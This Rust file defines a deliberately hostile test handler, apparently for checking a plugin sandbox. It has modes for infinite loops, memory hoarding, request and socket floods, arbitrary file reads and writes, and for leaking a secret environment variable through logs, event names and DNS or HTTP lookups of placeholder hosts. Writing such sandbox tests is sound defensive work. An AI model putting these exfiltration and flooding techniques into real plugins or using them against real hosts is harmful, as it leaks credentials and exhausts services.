//! A handler that misbehaves on purpose, chosen by `meta.mode`, for the
//! sandbox tests. Not shipped: the host's build compiles it for the tests only.

use handler_sdk::{Check, Handler, Outcome, Status, Tick};

/// The hostile handler.
pub struct Hostile;

fn meta_str(meta: &serde_json::Value, key: &str) -> String {
    meta.get(key)
        .and_then(|v| v.as_str())
        .unwrap_or_default()
        .to_string()
}

impl Handler for Hostile {
    fn run(_tick: Tick, check: Check) -> Result<Outcome, String> {
        let meta: serde_json::Value =
            serde_json::from_str(&check.meta).map_err(|e| e.to_string())?;
        match meta_str(&meta, "mode").as_str() {
            "ok" => Ok(Outcome::with_details(
                Status::Success,
                r#"{"handler":"hostile"}"#,
            )),
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(Outcome::success())
            }
            "busy" => {
                // Runs for `ms` milliseconds of wall-clock time, then succeeds.
                let ms = meta.get("ms").and_then(|v| v.as_u64()).unwrap_or(500);
                let start = std::time::Instant::now();
                while start.elapsed().as_millis() < u128::from(ms) {
                    std::hint::black_box(());
                }
                Ok(Outcome::with_details(
                    Status::Success,
                    r#"{"handler":"hostile","busy":true}"#,
                ))
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "grow_refused" => {
                // Asks for far more than the limit, survives the refusal
                // and claims success.
                let mut hoard: Vec<u8> = Vec::new();
                let refused = hoard.try_reserve(1 << 30).is_err();
                Ok(Outcome::with_details(
                    Status::Success,
                    serde_json::json!({ "refused": refused }).to_string(),
                ))
            }
            "big_details" => {
                // A details string of `bytes` bytes (a JSON string).
                let bytes = meta
                    .get("bytes")
                    .and_then(|v| v.as_u64())
                    .unwrap_or(1 << 20);
                let text = "x".repeat(usize::try_from(bytes).unwrap_or(0));
                Ok(Outcome::with_details(
                    Status::Success,
                    serde_json::json!({ "blob": text }).to_string(),
                ))
            }
            "big_error" => {
                let bytes = meta
                    .get("bytes")
                    .and_then(|v| v.as_u64())
                    .unwrap_or(1 << 20);
                Err("e".repeat(usize::try_from(bytes).unwrap_or(0)))
            }
            "deep_details" => {
                // Nested arrays `depth` deep: `[[[...]]]`.
                let depth = meta
                    .get("depth")
                    .and_then(|v| v.as_u64())
                    .unwrap_or(100_000);
                let depth = usize::try_from(depth).unwrap_or(0);
                Ok(Outcome::with_details(
                    Status::Success,
                    format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
                ))
            }
            "leak" => {
                // Repeats the variable `meta.var` everywhere it can: a log
                // line and field, an event, the details, and (with
                // `meta.fail`) the failure reason.
                let name = meta_str(&meta, "var");
                let value = std::env::var(&name).map_err(|e| format!("{name}: {e}"))?;
                handler_sdk::log::info(&format!("the value is {value}"));
                let event = format!("agent.{}.leak", meta_str(&meta, "agent"));
                handler_sdk::emit(&event, &serde_json::json!({ "v": value }).to_string())?;
                if meta.get("fail").and_then(|v| v.as_bool()).unwrap_or(false) {
                    return Err(format!("failed holding {value}"));
                }
                Ok(Outcome::with_details(
                    Status::Success,
                    serde_json::json!({ "v": value.clone(), value: 1 }).to_string(),
                ))
            }
            "leak_sideways" => {
                // Puts the secret variable `meta.var` where plain string
                // redaction does not look: an event's routing key, a JSON
                // number, and origins and names the host refuses (and logs).
                let name = meta_str(&meta, "var");
                let value = std::env::var(&name).map_err(|e| format!("{name}: {e}"))?;
                let agent = meta_str(&meta, "agent");
                let number: serde_json::Value =
                    serde_json::from_str(&value).unwrap_or(serde_json::Value::Null);
                let as_number = serde_json::json!({ "pin": number }).to_string();
                handler_sdk::emit(&format!("agent.{agent}.leak.{value}"), &as_number)?;
                let _ = handler_sdk::http::get(&format!("http://{value}.invalid/"));
                use std::net::ToSocketAddrs;
                let _ = (format!("{value}.example.org"), 80).to_socket_addrs();
                Err(as_number)
            }
            "http_flood" => {
                // Starts `meta.count` requests to `meta.url` at once and
                // waits for none of them but the last, which the host
                // should refuse past the run's connection bound.
                use wasip2::http::outgoing_handler;
                use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
                let authority = meta_str(&meta, "authority");
                let count = meta.get("count").and_then(|v| v.as_u64()).unwrap_or(100);
                let mut pending = Vec::new();
                for _ in 0..count {
                    let request = OutgoingRequest::new(Fields::new());
                    request
                        .set_scheme(Some(&Scheme::Http))
                        .and_then(|()| request.set_authority(Some(&authority)))
                        .and_then(|()| request.set_path_with_query(Some("/")))
                        .map_err(|()| "bad request".to_string())?;
                    match outgoing_handler::handle(request, None) {
                        Ok(future) => pending.push(future),
                        Err(code) => return Err(format!("request refused at once: {code:?}")),
                    }
                }
                let Some(last) = pending.last() else {
                    return Ok(Outcome::success());
                };
                last.subscribe().block();
                match last.get() {
                    Some(Ok(Err(code))) => Err(format!("request {count}: {code:?}")),
                    other => Ok(Outcome::with_details(
                        Status::Success,
                        serde_json::json!({ "last": format!("{other:?}") }).to_string(),
                    )),
                }
            }
            "socket_flood" => {
                // Connects to `meta.addr` `meta.count` times, keeping every
                // connection open; says how many it got.
                let addr = meta_str(&meta, "addr");
                let count = meta.get("count").and_then(|v| v.as_u64()).unwrap_or(100);
                let mut open = Vec::new();
                for n in 0..count {
                    match std::net::TcpStream::connect(&addr) {
                        Ok(stream) => open.push(stream),
                        Err(e) => return Err(format!("connection {}: {e}", n + 1)),
                    }
                }
                Ok(Outcome::with_details(
                    Status::Success,
                    serde_json::json!({ "open": open.len() }).to_string(),
                ))
            }
            "trap" => panic!("deliberate panic in a hostile handler"),
            "recursion" => Ok(Outcome::with_details(
                Status::Success,
                recurse(1).to_string(),
            )),
            "log_flood" => loop {
                handler_sdk::log::info("flood");
            },
            "event_flood" => loop {
                let event = format!("agent.{}.flood", meta_str(&meta, "agent"));
                handler_sdk::emit(&event, "{}")?;
            },
            "emit" => {
                let event = meta_str(&meta, "event");
                handler_sdk::emit(&event, r#"{"from":"hostile"}"#)?;
                Ok(Outcome::success())
            }
            "read_file" => {
                let path = meta_str(&meta, "path");
                std::fs::read_to_string(&path)
                    .map(|text| {
                        Outcome::with_details(
                            Status::Success,
                            serde_json::json!({ "read": text }).to_string(),
                        )
                    })
                    .map_err(|e| format!("cannot read {path}: {e}"))
            }
            "write_file" => {
                let path = meta_str(&meta, "path");
                std::fs::write(&path, "written by a handler\n")
                    .map(|()| Outcome::success())
                    .map_err(|e| format!("cannot write {path}: {e}"))
            }
            "socket" => {
                let addr = meta_str(&meta, "addr");
                std::net::TcpStream::connect(&addr)
                    .map(|_| Outcome::with_details(Status::Success, r#"{"connected":true}"#))
                    .map_err(|e| format!("cannot connect to {addr}: {e}"))
            }
            "http_get" => {
                // GETs `url` (following redirects) and returns the status
                // and body; an error is the run's failure, as a handler
                // would write it.
                let url = meta_str(&meta, "url");
                let mut request = handler_sdk::http::Request::new("GET", &url);
                if let Some(ms) = meta.get("waitMs").and_then(|v| v.as_u64()) {
                    request = request.timeout(std::time::Duration::from_millis(ms));
                }
                let response = request.send()?;
                Ok(Outcome::with_details(
                    if response.status < 400 {
                        Status::Success
                    } else {
                        Status::Failed
                    },
                    serde_json::json!({
                        "status": response.status,
                        "bytes": response.body.len(),
                        "body": response.text().chars().take(200).collect::<String>(),
                        "url": response.url,
                    })
                    .to_string(),
                ))
            }
            "lookup" => {
                // Resolves `name` through wasi:sockets/ip-name-lookup.
                use std::net::ToSocketAddrs;
                let name = meta_str(&meta, "name");
                let addrs: Vec<String> = (name.as_str(), 80)
                    .to_socket_addrs()
                    .map_err(|e| format!("cannot look up {name}: {e}"))?
                    .map(|a| a.ip().to_string())
                    .collect();
                Ok(Outcome::with_details(
                    Status::Success,
                    serde_json::json!({ "addrs": addrs }).to_string(),
                ))
            }
            "http_post" => {
                let url = meta_str(&meta, "url");
                let size = meta.get("bytes").and_then(|v| v.as_u64()).unwrap_or(16) as usize;
                let response =
                    handler_sdk::http::post(&url, "application/octet-stream", vec![b'x'; size])?;
                Ok(Outcome::with_details(
                    Status::Success,
                    serde_json::json!({"status": response.status, "body": response.text()})
                        .to_string(),
                ))
            }
            "env" => {
                let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                let args: Vec<String> = std::env::args().collect();
                if vars.is_empty() && args.is_empty() {
                    Err("no environment variables or arguments visible".into())
                } else {
                    Ok(Outcome::with_details(
                        Status::Success,
                        serde_json::json!({ "vars": vars, "args": args }).to_string(),
                    ))
                }
            }
            other => Err(format!("unknown mode {other:?}")),
        }
    }
}

#[allow(unconditional_recursion)]
fn recurse(depth: u64) -> u64 {
    let frame = std::hint::black_box([depth; 64]);
    recurse(depth + 1) + frame[0]
}

handler_sdk::export_handler!(Hostile);
